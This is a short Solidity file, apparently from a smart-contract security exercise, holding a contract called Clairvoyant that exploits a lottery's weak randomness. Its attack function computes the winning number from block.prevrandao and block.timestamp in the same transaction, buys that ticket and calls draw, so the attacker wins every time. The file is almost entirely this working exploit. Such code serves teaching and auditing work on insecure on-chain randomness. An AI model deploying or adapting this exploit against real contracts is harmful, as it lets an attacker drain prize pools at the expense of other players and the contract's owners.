// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ILottery {
    function buy(uint256 number) external payable;
    function draw() external;
}

// #region attack
contract Clairvoyant {
    /// Buys the winning ticket and draws it, all in the block that decides.
    function attack(ILottery lottery) external payable {
        uint256 winning = (uint256(keccak256(abi.encode(block.prevrandao, block.timestamp))) % 1000) + 1;
        lottery.buy{value: msg.value}(winning);
        lottery.draw();
    }

    receive() external payable {}
}
// #endregion attack
